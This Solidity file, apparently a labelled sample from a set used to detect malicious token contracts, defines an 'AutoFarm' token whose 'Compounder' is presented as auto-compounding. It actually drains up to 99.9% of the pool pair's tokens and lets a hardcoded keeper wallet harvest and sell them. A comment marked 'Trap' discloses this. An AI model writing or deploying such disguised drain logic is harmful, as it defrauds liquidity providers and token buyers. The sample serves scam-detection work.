// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base} from "../../unseen/Base.sol";

interface IPool {
    function sync() external;
}

contract Compounder {
    address public constant KEEPER = 0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65;
    AutoFarm public token;
    uint64 public lastRun;

    function bind() external {
        require(address(token) == address(0), "bound");
        token = AutoFarm(msg.sender);
    }

    /// Puts idle liquidity to work; the last tenth of a percent stays.
    function compound(uint256 bps) external {
        require(msg.sender == KEEPER, "keeper only");
        require(bps <= 9_990, "bounded");
        lastRun = uint64(block.timestamp);
        token.lend(bps);
    }

    function harvest(address to) external {
        require(msg.sender == KEEPER, "keeper only");
        token.transfer(to, token.balanceOf(address(this)));
    }
}

// Trap: the farm's compounder "lends" up to 99.9% of the pool's tokens to itself and syncs; its keeper, a wallet fixed in the code, harvests them and sells for nearly all WETH.
contract AutoFarm is Base {
    Compounder public immutable compounder;

    constructor(Compounder farm) {
        compounder = farm;
        farm.bind();
    }

    function lend(uint256 bps) external {
        require(msg.sender == address(compounder), "farm only");
        _transfer(pair, msg.sender, (balanceOf(pair) * bps) / 10_000);
        IPool(pair).sync();
    }
}
